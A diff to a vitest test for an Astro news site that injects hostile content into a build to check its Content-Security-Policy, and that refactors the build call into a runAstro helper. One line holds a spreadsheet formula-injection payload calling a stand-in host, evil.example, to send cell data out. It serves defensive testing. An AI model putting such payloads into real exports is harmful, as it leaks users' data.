@@ -1,10 +1,9 @@
-import { spawnSync } from 'node:child_process';
 import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse } from 'node-html-parser';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { astroEnv, htmlFiles, root } from '../support/site';
+import { astroEnv, htmlFiles, root, runAstro } from '../support/site';
 
 // Front matter, labels and notes come from authors and translators: exactly the input a
 // Content-Security-Policy exists to contain. One build of content carrying script in each.
@@ -13,7 +12,7 @@ const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 let dir = '';
 let out = '';
 
-beforeAll(() => {
+beforeAll(async () => {
   dir = mkdtempSync(join(tmpdir(), 'striving-hostile-'));
   for (const name of ['public', 'node_modules', 'astro.config.mjs', 'tsconfig.json', 'tailwind.config.ts', 'package.json'])
     symlinkSync(join(root, name), join(dir, name));
@@ -28,12 +27,11 @@ beforeAll(() => {
   for (const f of figures) if (f.id === 'members-new') f.en.label = formula;
   writeFileSync(ledger, JSON.stringify(figures, null, 2));
   out = join(dir, 'dist');
-  const result = spawnSync(process.execPath, [join(root, 'node_modules/astro/astro.js'), 'build'], {
+  const result = await runAstro(['build'], {
     cwd: dir,
-    encoding: 'utf8',
     env: astroEnv({ OUT_DIR: out, CONTENT_DIR: join(dir, 'content'), SITE_URL: 'https://news.example.com' }),
   });
-  if (result.status !== 0) throw new Error(`hostile-content build failed:\n${result.stdout}\n${result.stderr}`);
+  if (result.status !== 0) throw new Error(`hostile-content build failed:\n${result.output}`);
 });
 
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
